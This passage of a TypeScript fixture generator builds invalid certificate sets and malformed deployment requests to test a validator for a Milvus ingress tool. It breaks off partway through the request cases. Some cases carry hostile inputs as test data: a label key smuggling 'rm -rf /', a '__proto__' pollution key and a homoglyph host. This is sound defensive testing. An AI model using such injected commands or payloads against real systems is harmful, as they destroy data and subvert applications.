// Generates the bad-input corpus in test/fixtures/bad-input/ (DESIGN §4: a bad request is rejected before anything
// is changed, naming the field; issue 4 item 2):
//
//   pem/<case>/…           PEM sets that a valid request points at (Secrets Manager or S3), each with exactly one
//                          problem the certificate checks must catch. TEST keys, made here, protecting nothing.
//   requests/<case>.json   requests that the schema must reject (pass one to `milvus-l7 validate`).
//   cases.json             the index: for every case what it tests, the field path the rejection must name and a
//                          phrase the message must contain (requests), or the error and phrase (PEM sets).
//
//   npx tsx scripts/make-bad-input.ts          rewrite requests/ and cases.json; create PEM sets that are missing
//   npx tsx scripts/make-bad-input.ts --pem    also regenerate every PEM set (the RSA 8192 key takes a while)
//
// Requests are deterministic (built from events/console-start.json). PEM sets carry fixed dates — far past for
// "expired", far future for "not yet valid", 2020–2099 for everything meant to be valid — so the committed files
// keep testing the same thing for decades; only the keys change when they are regenerated.

import "reflect-metadata";
import { createPrivateKey, webcrypto, X509Certificate } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import * as x509 from "@peculiar/x509";
import { type Issued, type IssueOptions, issue } from "../sandbox/pki";

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), "..");
export const CORPUS = join(ROOT, "test/fixtures/bad-input");
const HOST = "milvus-demo.milvus.io";

// ===============================================================================================================
// Index types (the test reads cases.json through these).

export interface RequestCase {
  case: string;
  category: string;
  /** What is wrong, for people. */
  tests: string;
  /** Relative to the corpus folder. */
  file: string;
  /** The field path the rejection must name, as the issues print it ("" is the whole request). */
  path: string;
  /** A phrase the message for that path must contain. */
  contains: string;
  /** A private key pasted into the request (relative path): it must not come back in any answer. */
  pastedKey?: string;
}

/** How a PEM case reaches import-certificate. */
export type PemStore =
  /** Secrets Manager, SecretString = {"certificate","chain","privateKey"} from cert.pem, chain.pem, privkey.pem. */
  | "secret"
  /** Secrets Manager, SecretString = the file `secret` names, verbatim. */
  | "secret-string"
  /** Secrets Manager, SecretBinary = the file `secret` names. */
  | "secret-binary"
  /** No secret at all: the request names one that does not exist. */
  | "secret-missing"
  /** S3: every file of the folder uploaded under <bucket>/<case>/; the request's prefix is <case>/. */
  | "s3";

export interface PemCase {
  case: string;
  category: string;
  tests: string;
  /** Folder relative to the corpus folder. */
  dir: string;
  store: PemStore;
  /** For secret-string / secret-binary: the file in `dir`. */
  secret?: string;
  /** For s3: object names other than the defaults (cert.pem, chain.pem, privkey.pem). */
  keys?: { certificateKey?: string; chainKey?: string; privateKeyKey?: string };
  /** A subfolder holding a good set that is imported into ACM first; the request re-imports into its ARN. */
  reimportInto?: string;
  error: "CertificateRejected" | "CertificateSourceError";
  /** A phrase the Cause must contain. */
  contains: string;
}

export interface CorpusIndex {
  about: string;
  requests: RequestCase[];
  pem: PemCase[];
}

// ===============================================================================================================
// PEM sets.

const VALID = { notBefore: new Date("2020-01-01T00:00:00Z"), notAfter: new Date("2099-12-31T23:59:59Z") };

interface Ca {
  root: Issued;
  intermediate: Issued;
  chainPem: string;
}

async function ca(name: string, intermediateDates = VALID): Promise<Ca> {
  const root = await issue({ commonName: `milvus-l7 bad-input ${name} Root CA (TEST)`, isCa: true, keyType: "ec384", ...VALID });
  const intermediate = await issue({
    commonName: `milvus-l7 bad-input ${name} Issuing CA (TEST)`,
    isCa: true,
    issuer: root,
    keyType: "ec256",
    ...intermediateDates,
  });
  return { root, intermediate, chainPem: intermediate.certPem + root.certPem };
}

function leaf(authority: Ca, opts: Partial<IssueOptions> = {}): Promise<Issued> {
  return issue({ commonName: HOST, keyType: "rsa2048", ...VALID, ...opts, issuer: authority.intermediate });
}

/**
 * A leaf for a key pki.ts cannot make (RSA 8192, Ed25519): the same extensions as pki.issue, over given keys.
 * Returns the certificate PEM and the PKCS#8 key PEM.
 */
async function leafWithKeys(
  authority: Ca,
  algorithm: RsaHashedKeyGenParams | { name: "Ed25519" },
): Promise<{ certPem: string; keyPem: string }> {
  const keys = (await webcrypto.subtle.generateKey(algorithm, true, ["sign", "verify"])) as CryptoKeyPair;
  const cert = await x509.X509CertificateGenerator.create({
    serialNumber: `7f${Date.now().toString(16)}`,
    subject: `CN=${HOST}`,
    issuer: authority.intermediate.cert.subject,
    ...VALID,
    signingAlgorithm: { name: "ECDSA", hash: "SHA-256" } as EcdsaParams,
    publicKey: keys.publicKey,
    signingKey: authority.intermediate.keys.privateKey,
    extensions: [
      new x509.BasicConstraintsExtension(false, undefined, true),
      new x509.KeyUsagesExtension(x509.KeyUsageFlags.digitalSignature | x509.KeyUsageFlags.keyEncipherment, true),
      await x509.SubjectKeyIdentifierExtension.create(keys.publicKey),
      new x509.ExtendedKeyUsageExtension([x509.ExtendedKeyUsage.serverAuth]),
      new x509.SubjectAlternativeNameExtension([{ type: "dns", value: HOST }]),
      await x509.AuthorityKeyIdentifierExtension.create(authority.intermediate.cert),
    ],
  });
  const pkcs8 = Buffer.from(await webcrypto.subtle.exportKey("pkcs8", keys.privateKey)).toString("base64");
  const keyPem = `-----BEGIN PRIVATE KEY-----\n${pkcs8.replace(/(.{64})/g, "$1\n").replace(/\n$/, "")}\n-----END PRIVATE KEY-----\n`;
  return { certPem: `${cert.toString("pem")}\n`, keyPem };
}

type Files = Record<string, string | Buffer>;

/** cert.pem, chain.pem and privkey.pem of a set, the way certbot names them. */
const certbot = (l: { certPem: string; keyPem: string }, chainPem: string): Files => ({
  "cert.pem": l.certPem,
  "chain.pem": chainPem,
  "privkey.pem": l.keyPem,
});

const der = (certPem: string) => new X509Certificate(certPem).raw;
const PASSPHRASE = "test-only-passphrase";

interface PemDefinition extends Omit<PemCase, "dir"> {
  make: () => Promise<Files>;
}

function pemDefinitions(): PemDefinition[] {
  const reject = "CertificateRejected" as const;
  const source = "CertificateSourceError" as const;
  return [
    // --- validity ---------------------------------------------------------------------------------------------
    {
      case: "expired",
      category: "validity",
      tests: "the leaf expired in 2001",
      store: "secret",
      error: reject,
      contains: "certificate expired at 2001-01-01",
      make: async () => {
        const a = await ca("expired");
        return certbot(await leaf(a, { notBefore: new Date("2000-01-01T00:00:00Z"), notAfter: new Date("2001-01-01T00:00:00Z") }), a.chainPem);
      },
    },
    {
      case: "not-yet-valid",
      category: "validity",
      tests: "the leaf is valid only from 2090",
      store: "secret",
      error: reject,
      contains: "is not valid yet",
      make: async () => {
        const a = await ca("not-yet-valid");
        return certbot(await leaf(a, { notBefore: new Date("2090-01-01T00:00:00Z"), notAfter: new Date("2091-01-01T00:00:00Z") }), a.chainPem);
      },
    },
    {
      case: "intermediate-expired",
      category: "validity",
      tests: "the leaf is valid but its issuing CA expired in 2001",
      store: "secret",
      error: reject,
      contains: "chain certificate #1",
      make: async () => {
        const a = await ca("intermediate-expired", { notBefore: new Date("2000-01-01T00:00:00Z"), notAfter: new Date("2001-01-01T00:00:00Z") });
        return certbot(await leaf(a), a.chainPem);
      },
    },
    // --- key --------------------------------------------------------------------------------------------------
    {
      case: "key-mismatch",
      category: "key",
      tests: "privkey.pem belongs to another certificate",
      store: "secret",
      error: reject,
      contains: "privateKey does not belong to the certificate",
      make: async () => {
        const a = await ca("key-mismatch");
        const [l, other] = await Promise.all([leaf(a), leaf(a)]);
        return certbot({ certPem: l.certPem, keyPem: other.keyPem }, a.chainPem);
      },
    },
    {
      case: "encrypted-key-pkcs8",
      category: "key",
      tests: "the key is passphrase-protected PKCS#8 (ENCRYPTED PRIVATE KEY)",
      store: "secret",
      error: reject,
      contains: "privateKey is encrypted",
      make: async () => {
        const a = await ca("encrypted-pkcs8");
        const l = await leaf(a);
        const encrypted = createPrivateKey(l.keyPem).export({ type: "pkcs8", format: "pem", cipher: "aes-256-cbc", passphrase: PASSPHRASE });
        return { ...certbot(l, a.chainPem), "privkey.pem": encrypted };
      },
    },
    {
      case: "encrypted-key-traditional",
      category: "key",
      tests: "the key is a traditional OpenSSL encrypted RSA key (Proc-Type: 4,ENCRYPTED)",
      store: "s3",
      error: reject,
      contains: "privateKey is encrypted",
      make: async () => {
        const a = await ca("encrypted-traditional");
        const l = await leaf(a);
        const encrypted = createPrivateKey(l.keyPem).export({ type: "pkcs1", format: "pem", cipher: "aes-256-cbc", passphrase: PASSPHRASE });
        return { ...certbot(l, a.chainPem), "privkey.pem": encrypted };
      },
    },
    {
      case: "key-over-5120-bytes",
      category: "key",
      tests: "an RSA 8192 key: its PEM is over ACM's 5,120-byte limit",
      store: "secret",
      error: reject,
      contains: "ACM imports keys of at most 5120 bytes",
      make: async () => {
        const a = await ca("rsa8192");
        const rsa8192 = { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256", publicExponent: new Uint8Array([1, 0, 1]), modulusLength: 8192 };
        return certbot(await leafWithKeys(a, rsa8192), a.chainPem);
      },
    },
    {
      case: "key-type-unsupported",
      category: "key",
      tests: "an Ed25519 key, which ACM does not import",
      store: "secret",
      error: reject,
      contains: "which ACM does not import",
      make: async () => {
        const a = await ca("ed25519");
        return certbot(await leafWithKeys(a, { name: "Ed25519" }), a.chainPem);
      },
    },
    {
      case: "key-type-change",
      category: "key",
      tests: "re-import into an RSA_2048 ACM certificate (existing/, imported first) with an EC P-256 key",
      store: "secret",
      reimportInto: "existing",
      error: reject,
      contains: "cannot change key type or size on re-import",
      make: async () => {
        const a = await ca("key-type-change");
        const [rsa, ec] = await Promise.all([leaf(a, { keyType: "rsa2048" }), leaf(a, { keyType: "ec256" })]);
        const existing = certbot(rsa, a.chainPem);
        return {
          ...certbot(ec, a.chainPem),
          ...Object.fromEntries(Object.entries(existing).map(([name, text]) => [`existing/${name}`, text])),
        };
      },
    },
    {
      case: "public-key-as-private-key",
      category: "key",
      tests: "privkey.pem holds the PUBLIC KEY",
      store: "secret",
      error: reject,
      contains: "not a private key",
      make: async () => {
        const a = await ca("public-key");
        const l = await leaf(a);
        const spki = new X509Certificate(l.certPem).publicKey.export({ type: "spki", format: "pem" }).toString();
        return { ...certbot(l, a.chainPem), "privkey.pem": spki };
      },
    },
    {
      case: "two-private-keys",
      category: "key",
      tests: "privkey.pem holds two keys (the right one and another)",
      store: "secret",
      error: reject,
      contains: "must hold exactly one private key",
      make: async () => {
        const a = await ca("two-keys");
        const [l, other] = await Promise.all([leaf(a), leaf(a)]);
        return { ...certbot(l, a.chainPem), "privkey.pem": l.keyPem + other.keyPem };
      },
    },
    // --- chain ------------------------------------------------------------------------------------------------
    {
      case: "chain-out-of-order",
      category: "chain",
      tests: "chain.pem lists the root before the intermediate",
      store: "secret",
      error: reject,
      contains: "chain is out of order",
      make: async () => {
        const a = await ca("out-of-order");
        return certbot(await leaf(a), a.root.certPem + a.intermediate.certPem);
      },
    },
    {
      case: "leaf-in-chain",
      category: "chain",
      tests: "chain.pem is certbot's fullchain.pem (leaf + intermediate + root)",
      store: "s3",
      error: reject,
      contains: "chain certificate #1 is the certificate itself",
      make: async () => {
        const a = await ca("leaf-in-chain");
        const l = await leaf(a);
        return certbot(l, l.certPem + a.chainPem);
      },
    },
    {
      case: "chain-from-another-ca",
      category: "chain",
      tests: "chain.pem belongs to another CA",
      store: "secret",
      error: reject,
      contains: "did not issue the certificate",
      make: async () => {
        const [a, b] = await Promise.all([ca("right"), ca("wrong")]);
        return certbot(await leaf(a), b.chainPem);
      },
    },
    {
      case: "chain-missing",
      category: "chain",
      tests: "chain.pem is empty but the leaf is not self-signed",
      store: "s3",
      error: reject,
      contains: "chain is empty",
      make: async () => {
        const a = await ca("chain-missing");
        return certbot(await leaf(a), "");
      },
    },
    {
      case: "certificate-is-fullchain",
      category: "chain",
      tests: "cert.pem holds the leaf and the intermediate",
      store: "secret",
      error: reject,
      contains: "certificate holds 2 certificates",
      make: async () => {
        const a = await ca("fullchain-as-cert");
        const l = await leaf(a);
        return { ...certbot(l, a.chainPem), "cert.pem": l.certPem + a.intermediate.certPem };
      },
    },
    // --- encoding ---------------------------------------------------------------------------------------------
    {
      case: "der-certificate",
      category: "encoding",
      tests: "the certificate is DER, not PEM (cert.der)",
      store: "s3",
      keys: { certificateKey: "cert.der" },
      error: reject,
      contains: "certificate is binary (DER?)",
      make: async () => {
        const a = await ca("der-cert");
        const l = await leaf(a);
        return { "cert.der": der(l.certPem), "chain.pem": a.chainPem, "privkey.pem": l.keyPem };
      },
    },
    {
      case: "der-private-key",
      category: "encoding",
      tests: "the private key is DER, not PEM (privkey.der)",
      store: "s3",
      keys: { privateKeyKey: "privkey.der" },
      error: reject,
      contains: "privateKey is binary (DER?)",
      make: async () => {
        const a = await ca("der-key");
        const l = await leaf(a);
        const keyDer = createPrivateKey(l.keyPem).export({ type: "pkcs8", format: "der" });
        return { "cert.pem": l.certPem, "chain.pem": a.chainPem, "privkey.der": keyDer };
      },
    },
    {
      case: "empty-certificate",
      category: "encoding",
      tests: "cert.pem is an empty file",
      store: "s3",
      error: reject,
      contains: "certificate is empty",
      make: async () => {
        const a = await ca("empty-cert");
        return { ...certbot(await leaf(a), a.chainPem), "cert.pem": "" };
      },
    },
    {
      case: "empty-private-key",
      category: "encoding",
      tests: "privkey.pem is an empty file",
      store: "secret",
      error: reject,
      contains: "privateKey is empty",
      make: async () => {
        const a = await ca("empty-key");
        return { ...certbot(await leaf(a), a.chainPem), "privkey.pem": "" };
      },
    },
    {
      case: "truncated-pem",
      category: "encoding",
      tests: "cert.pem lost its END line (a copy-paste cut short)",
      store: "secret",
      error: reject,
      contains: "without a matching -----END line",
      make: async () => {
        const a = await ca("truncated");
        const l = await leaf(a);
        return { ...certbot(l, a.chainPem), "cert.pem": l.certPem.split("\n").slice(0, 8).join("\n") };
      },
    },
    {
      case: "mismatched-armour",
      category: "encoding",
      tests: "privkey.pem opens with BEGIN RSA PRIVATE KEY and closes with END PRIVATE KEY",
      store: "secret",
      error: reject,
      contains: "the PEM is damaged",
      make: async () => {
        const a = await ca("armour");
        const l = await leaf(a);
        return { ...certbot(l, a.chainPem), "privkey.pem": l.keyPem.replace("BEGIN PRIVATE KEY", "BEGIN RSA PRIVATE KEY") };
      },
    },
    {
      case: "not-base64",
      category: "encoding",
      tests: "cert.pem's body has characters that are not base64 (a mangled paste)",
      store: "secret",
      error: reject,
      contains: "body is not base64",
      make: async () => {
        const a = await ca("not-base64");
        const l = await leaf(a);
        const lines = l.certPem.split("\n");
        lines[3] = `${(lines[3] ?? "").slice(0, 20)}&amp;${(lines[3] ?? "").slice(25)}`;
        return { ...certbot(l, a.chainPem), "cert.pem": lines.join("\n") };
      },
    },
    {
      case: "no-armour",
      category: "encoding",
      tests: "cert.pem is base64 without the BEGIN/END lines",
      store: "secret",
      error: reject,
      contains: "has no -----BEGIN",
      make: async () => {
        const a = await ca("no-armour");
        const l = await leaf(a);
        return { ...certbot(l, a.chainPem), "cert.pem": `${l.certPem.split("\n").filter((s) => s && !s.startsWith("-----")).join("\n")}\n` };
      },
    },
    {
      case: "private-key-in-certificate-file",
      category: "encoding",
      tests: "cert.pem is a combined PEM (leaf + its private key, as HAProxy wants it)",
      store: "secret",
      error: reject,
      contains: "contains a PRIVATE KEY block",
      make: async () => {
        const a = await ca("combined");
        const l = await leaf(a);
        return { ...certbot(l, a.chainPem), "cert.pem": l.certPem + l.keyPem };
      },
    },
    // --- hosts ------------------------------------------------------------------------------------------------
    {
      case: "host-not-covered",
      category: "hosts",
      tests: `the certificate is for other.example.com, the Ingress host is ${HOST}`,
      store: "secret",
      error: reject,
      contains: `does not cover ${HOST}`,
      make: async () => {
        const a = await ca("other-host");
        return certbot(await leaf(a, { commonName: "other.example.com" }), a.chainPem);
      },
    },
    {
      case: "wildcard-does-not-cover-apex",
      category: "hosts",
      tests: `the certificate is for *.${HOST}, which does not cover ${HOST} itself`,
      store: "s3",
      error: reject,
      contains: `does not cover ${HOST}`,
      make: async () => {
        const a = await ca("wildcard");
        return certbot(await leaf(a, { commonName: `*.${HOST}` }), a.chainPem);
      },
    },
    // --- source -----------------------------------------------------------------------------------------------
    {
      case: "secret-not-json",
      category: "source",
      tests: "the secret holds the PEMs as YAML, not the JSON milvus-l7 reads",
      store: "secret-string",
      secret: "secret.yaml",
      error: source,
      contains: "is not valid JSON",
      make: async () => {
        const a = await ca("yaml-secret");
        const l = await leaf(a);
        const indent = (s: string) => s.trimEnd().replace(/^/gm, "  ");
        return {
          ...certbot(l, a.chainPem),
          "secret.yaml": `certificate: |\n${indent(l.certPem)}\nchain: |\n${indent(a.chainPem)}\nprivateKey: |\n${indent(l.keyPem)}\n`,
        };
      },
    },
    {
      case: "secret-wrong-field-names",
      category: "source",
      tests: "the secret is JSON with cert-manager-like field names (tls.crt, ca.crt, tls.key)",
      store: "secret-string",
      secret: "secret.json",
      error: source,
      contains: 'lacks "certificate", "chain", "privateKey"',
      make: async () => {
        const a = await ca("wrong-fields");
        const l = await leaf(a);
        return { ...certbot(l, a.chainPem), "secret.json": `${JSON.stringify({ "tls.crt": l.certPem, "ca.crt": a.chainPem, "tls.key": l.keyPem }, null, 2)}\n` };
      },
    },
    {
      case: "secret-binary",
      category: "source",
      tests: "the secret is a binary secret (SecretBinary: the DER certificate), not a JSON string",
      store: "secret-binary",
      secret: "cert.der",
      error: source,
      contains: "has no SecretString",
      make: async () => {
        const a = await ca("binary-secret");
        const l = await leaf(a);
        return { ...certbot(l, a.chainPem), "cert.der": der(l.certPem) };
      },
    },
    {
      case: "secret-missing",
      category: "source",
      tests: "the request names a secret that does not exist",
      store: "secret-missing",
      error: source,
      contains: "secretsmanager:GetSecretValue",
      make: async () => ({ "NOTE.txt": "No PEM files: the request names a secret that does not exist.\n" }),
    },
    {
      case: "s3-object-missing",
      category: "source",
      tests: "privkey.pem was never uploaded",
      store: "s3",
      error: source,
      contains: "privkey.pem",
      make: async () => {
        const a = await ca("s3-missing");
        const l = await leaf(a);
        return { "cert.pem": l.certPem, "chain.pem": a.chainPem };
      },
    },
    {
      case: "s3-object-too-large",
      category: "source",
      tests: "cert.pem is a 70 KB CA bundle, not a certificate",
      store: "s3",
      error: source,
      contains: "a PEM file is a few KB",
      make: async () => {
        const a = await ca("bundle");
        const l = await leaf(a);
        let bundle = "";
        while (bundle.length < 70 * 1024) bundle += a.root.certPem + a.intermediate.certPem;
        return { ...certbot(l, a.chainPem), "cert.pem": bundle };
      },
    },
  ];
}

// ===============================================================================================================
// Requests.

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Req = { [key: string]: Json };

interface RequestDefinition extends Omit<RequestCase, "file"> {
  build: (r: Req) => unknown;
}

const A = "alb.ingress.kubernetes.io/";
const SECRET_ARN = "arn:aws:secretsmanager:us-east-2:123456789012:secret:milvus-l7/milvus-demo.milvus.io-Qx7pZ2";

function at(r: Req, path: string[]): Req {
  let node: Req = r;
  for (const key of path) {
    const next = node[key];
    if (typeof next !== "object" || next === null || Array.isArray(next)) {
      const created: Req = {};
      node[key] = created;
      node = created;
    } else {
      node = next;
    }
  }
  return node;
}

/** r with `path` set to `value` (the last segment is one key, dots and all). */
function set(path: string[], value: Json | undefined): (r: Req) => Req {
  return (r) => {
    const parent = at(r, path.slice(0, -1));
    const key = path.at(-1) as string;
    if (value === undefined) delete parent[key];
    // defineProperty, not assignment: "__proto__" must become an own key, as JSON.parse makes it.
    else Object.defineProperty(parent, key, { value, enumerable: true, writable: true, configurable: true });
    return r;
  };
}

const annotation = (suffix: string, value: Json) => set(["ingress", "annotations", A + suffix], value);
const annotationPath = (suffix: string) => `ingress.annotations.${A}${suffix}`;

function s3Source(overrides: Req = {}): (r: Req) => Req {
  return set(["certificate", "source"], { s3: { bucket: "milvus-l7-certs", prefix: "live/milvus-demo/", ...overrides } });
}

function deeplyNested(levels: number): Json {
  let v: Json = "bottom";
  for (let i = 0; i < levels; i++) v = { a: v };
  return v;
}

function requestDefinitions(pastedKeyFile: string, pastedKeyPem: string, certPem: string): RequestDefinition[] {
  const oneLineKey = pastedKeyPem.replace(/\n/g, "");
  return [
    // --- unknown keys, one at each level ----------------------------------------------------------------------
    { case: "unknown-root-key", category: "unknown keys", tests: "a misspelt top-level field (cutOver)", path: "cutOver", contains: "unknown field", build: set(["cutOver"], "before-ingress") },
    { case: "unknown-cluster-key", category: "unknown keys", tests: "cluster.zone, which does not exist", path: "cluster.zone", contains: "allowed: name, region", build: set(["cluster", "zone"], "us-east-2a") },
    {
      case: "unknown-milvus-key-typo",
      category: "unknown keys",
      tests: "milvus.namepace (typo) instead of milvus.namespace",
      path: "milvus.namepace",
      contains: "unknown field",
      build: (r) => set(["milvus", "namepace"], "milvus")(set(["milvus", "namespace"], undefined)(r)),
    },
    { case: "unknown-ingress-labels", category: "unknown keys", tests: "ingress.labels: milvus-l7 sets no labels from a request", path: "ingress.labels", contains: "unknown field", build: set(["ingress", "labels"], { app: "milvus", "team; rm -rf /": "x" }) },
    { case: "unknown-certificate-key", category: "unknown keys", tests: "certificate.domain, which does not exist", path: "certificate.domain", contains: "allowed: arn, source", build: set(["certificate", "domain"], "milvus.io") },
    { case: "unknown-source-kind", category: "unknown keys", tests: "certificate.source.acmPca, a source milvus-l7 does not have", path: "certificate.source.acmPca", contains: "allowed: secretsManager, s3", build: set(["certificate", "source", "acmPca"], { arn: "arn:aws:acm-pca:us-east-2:123456789012:certificate-authority/x" }) },
    { case: "unknown-secrets-manager-key", category: "unknown keys", tests: "certificate.source.secretsManager.versionStage, not supported", path: "certificate.source.secretsManager.versionStage", contains: "allowed: secretId", build: set(["certificate", "source", "secretsManager", "versionStage"], "AWSPREVIOUS") },
    { case: "unknown-s3-key", category: "unknown keys", tests: "certificate.source.s3.region, not supported", path: "certificate.source.s3.region", contains: "unknown field", build: (r) => set(["certificate", "source", "s3", "region"], "us-east-2")(s3Source()(r)) },
    { case: "proto-pollution", category: "unknown keys", tests: 'a "__proto__" key at the top level', path: "__proto__", contains: "unknown field", build: set(["__proto__"], { admin: true }) },
    { case: "deeply-nested", category: "unknown keys", tests: "an unknown field nested 1,000 levels deep", path: "extra", contains: "unknown field", build: set(["extra"], deeplyNested(1000)) },

    // --- wrong types ------------------------------------------------------------------------------------------
    { case: "root-array", category: "wrong types", tests: "the request wrapped in a JSON array", path: "", contains: "must be an object", build: (r) => [r] },
    { case: "root-double-encoded", category: "wrong types", tests: "the request JSON-encoded twice (a string holding the JSON), as a portal bug would send it", path: "", contains: "must be an object", build: (r) => JSON.stringify(r) },
    { case: "root-empty-object", category: "wrong types", tests: "{}: every required section missing", path: "cluster", contains: "is required", build: () => ({}) },
    { case: "missing-milvus", category: "wrong types", tests: "no milvus section", path: "milvus", contains: "is required", build: set(["milvus"], undefined) },
    { case: "cluster-string", category: "wrong types", tests: "cluster given as a name string, not an object", path: "cluster", contains: "must be an object", build: set(["cluster"], "milvus-eks") },
    { case: "milvus-array", category: "wrong types", tests: "milvus given as an array", path: "milvus", contains: "must be an object", build: set(["milvus"], [{ namespace: "milvus", service: "milvus-demo" }]) },
    { case: "ingress-null", category: "wrong types", tests: "ingress is null", path: "ingress", contains: "must be an object", build: set(["ingress"], null) },
    { case: "port-string", category: "wrong types", tests: 'milvus.port as a string ("19530")', path: "milvus.port", contains: "must be an integer from 1 to 65535", build: set(["milvus", "port"], "19530") },
    { case: "port-float", category: "wrong types", tests: "milvus.port 19530.5", path: "milvus.port", contains: "must be an integer from 1 to 65535", build: set(["milvus", "port"], 19530.5) },
    { case: "host-number", category: "wrong types", tests: "ingress.host as a number", path: "ingress.host", contains: "must be a string", build: set(["ingress", "host"], 42) },
    { case: "annotations-array", category: "wrong types", tests: "ingress.annotations as a list of key=value strings", path: "ingress.annotations", contains: "must be an object", build: set(["ingress", "annotations"], [`${A}ssl-policy=ELBSecurityPolicy-TLS13-1-2-2021-06`]) },
    { case: "annotation-value-number", category: "wrong types", tests: "an annotation value given as a number (10), not a string", path: annotationPath("healthcheck-interval-seconds"), contains: "must be a string", build: annotation("healthcheck-interval-seconds", 10) },
    { case: "certificate-string", category: "wrong types", tests: "certificate given as an ARN string, not an object", path: "certificate", contains: "must be an object", build: set(["certificate"], "arn:aws:acm:us-east-2:123456789012:certificate/4f6b2c1e-8d3a-4b7e-9c5f-2a1d0e8b7c64") },
    { case: "source-string", category: "wrong types", tests: "certificate.source given as a secret ARN string", path: "certificate.source", contains: "must be an object", build: set(["certificate", "source"], SECRET_ARN) },
    { case: "secrets-manager-string", category: "wrong types", tests: "certificate.source.secretsManager given as the ARN itself", path: "certificate.source.secretsManager", contains: "must be an object", build: set(["certificate", "source", "secretsManager"], SECRET_ARN) },
    { case: "s3-string", category: "wrong types", tests: "certificate.source.s3 given as an s3:// URI", path: "certificate.source.s3", contains: "must be an object", build: set(["certificate", "source"], { s3: "s3://milvus-l7-certs/live/" }) },
    { case: "wait-string", category: "wrong types", tests: 'waitForAddressMinutes as a string ("20")', path: "waitForAddressMinutes", contains: "must be an integer from 1 to 60", build: set(["waitForAddressMinutes"], "20") },

    // --- Kubernetes and AWS names -----------------------------------------------------------------------------
    { case: "cluster-name-leading-dash", category: "names", tests: "cluster.name starting with '-'", path: "cluster.name", contains: "must be an EKS cluster name", build: set(["cluster", "name"], "-milvus") },
    { case: "cluster-name-too-long", category: "names", tests: "cluster.name of 101 characters", path: "cluster.name", contains: "1-100 letters", build: set(["cluster", "name"], "m".repeat(101)) },
    { case: "cluster-name-empty", category: "names", tests: "cluster.name empty", path: "cluster.name", contains: "must be an EKS cluster name", build: set(["cluster", "name"], "") },
    { case: "region-uppercase", category: "names", tests: "cluster.region US-EAST-2", path: "cluster.region", contains: "must be an AWS region code", build: set(["cluster", "region"], "US-EAST-2") },
    { case: "region-availability-zone", category: "names", tests: "cluster.region given as an availability zone (us-east-2a)", path: "cluster.region", contains: "must be an AWS region code", build: set(["cluster", "region"], "us-east-2a") },
    { case: "namespace-uppercase", category: "names", tests: "milvus.namespace with uppercase letters (DNS-1123)", path: "milvus.namespace", contains: "DNS-1123 label", build: set(["milvus", "namespace"], "Milvus") },
    { case: "namespace-underscore", category: "names", tests: "milvus.namespace with '_' (DNS-1123)", path: "milvus.namespace", contains: "DNS-1123 label", build: set(["milvus", "namespace"], "milvus_prod") },
    { case: "namespace-too-long", category: "names", tests: "milvus.namespace of 64 characters (DNS-1123 allows 63)", path: "milvus.namespace", contains: "at most 63 characters", build: set(["milvus", "namespace"], "n".repeat(64)) },
    { case: "service-leading-digit", category: "names", tests: "milvus.service starting with a digit (DNS-1035)", path: "milvus.service", contains: "DNS-1035 label", build: set(["milvus", "service"], "1milvus") },
    { case: "service-trailing-dash", category: "names", tests: "milvus.service ending with '-' (DNS-1035)", path: "milvus.service", contains: "DNS-1035 label", build: set(["milvus", "service"], "milvus-") },
    { case: "ingress-name-underscore", category: "names", tests: "ingress.name with '_' (DNS-1123 subdomain)", path: "ingress.name", contains: "DNS-1123 subdomain", build: set(["ingress", "name"], "milvus_demo") },
    { case: "ingress-name-too-long", category: "names", tests: "ingress.name of 255 characters", path: "ingress.name", contains: "at most 253 characters", build: set(["ingress", "name"], Array(4).fill("a".repeat(63)).join(".")) },

    // --- hosts ------------------------------------------------------------------------------------------------
    { case: "host-wildcard", category: "hosts", tests: "a wildcard host", path: "ingress.host", contains: "must not be a wildcard", build: set(["ingress", "host"], "*.milvus.io") },
    { case: "host-uppercase", category: "hosts", tests: "a host with uppercase letters", path: "ingress.host", contains: "use lowercase", build: set(["ingress", "host"], "Milvus-Demo.milvus.io") },
    { case: "host-too-long", category: "hosts", tests: "a host of 255 characters", path: "ingress.host", contains: "at most 253 characters in all", build: set(["ingress", "host"], `${Array(4).fill("a".repeat(63)).join(".")}`) },
    { case: "host-label-too-long", category: "hosts", tests: "a host label of 64 characters", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `${"a".repeat(64)}.milvus.io`) },
    { case: "host-trailing-dot", category: "hosts", tests: "a fully qualified host with a trailing dot (the Ingress API refuses it)", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `${HOST}.`) },
    { case: "host-ip-address", category: "hosts", tests: "an IP address as host", path: "ingress.host", contains: "not an IP address", build: set(["ingress", "host"], "10.0.0.1") },
    { case: "host-with-port", category: "hosts", tests: "host:port", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `${HOST}:443`) },
    { case: "host-with-scheme", category: "hosts", tests: "a URL instead of a host", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `https://${HOST}`) },
    { case: "host-empty", category: "hosts", tests: "an empty host", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], "") },
    { case: "host-homoglyph", category: "hosts", tests: "a host with a Cyrillic 'о' that looks like the real one", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], "milvus-dem\u043e.milvus.io") },

    // --- ports, scheme and options ----------------------------------------------------------------------------
    { case: "port-zero", category: "ports and options", tests: "milvus.port 0", path: "milvus.port", contains: "from 1 to 65535", build: set(["milvus", "port"], 0) },
    { case: "port-too-large", category: "ports and options", tests: "milvus.port 65536", path: "milvus.port", contains: "from 1 to 65535", build: set(["milvus", "port"], 65536) },
    { case: "port-negative", category: "ports and options", tests: "milvus.port -19530", path: "milvus.port", contains: "from 1 to 65535", build: set(["milvus", "port"], -19530) },
    { case: "scheme-public", category: "ports and options", tests: 'ingress.scheme "public"', path: "ingress.scheme", contains: "must be one of internet-facing, internal", build: set(["ingress", "scheme"], "public") },
    { case: "scheme-case", category: "ports and options", tests: 'ingress.scheme "Internet-Facing"', path: "ingress.scheme", contains: "must be one of internet-facing, internal", build: set(["ingress", "scheme"], "Internet-Facing") },
    { case: "cutover-typo", category: "ports and options", tests: 'cutover "before-verify" (no such order)', path: "cutover", contains: "must be one of after-verify, before-ingress", build: set(["cutover"], "before-verify") },
